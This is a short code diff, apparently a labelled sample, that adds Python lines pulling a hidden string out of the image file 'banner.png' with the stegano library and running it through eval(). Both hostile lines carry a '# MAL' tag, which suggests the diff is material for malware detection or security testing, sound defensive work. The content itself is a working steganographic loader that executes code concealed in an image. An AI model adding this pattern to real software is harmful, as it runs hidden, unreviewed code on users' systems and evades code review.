@@ -1,0 +1,4 @@
+from stegano import lsb
+
+secret = lsb.reveal("banner.png")  # MAL
+eval(secret)  # MAL
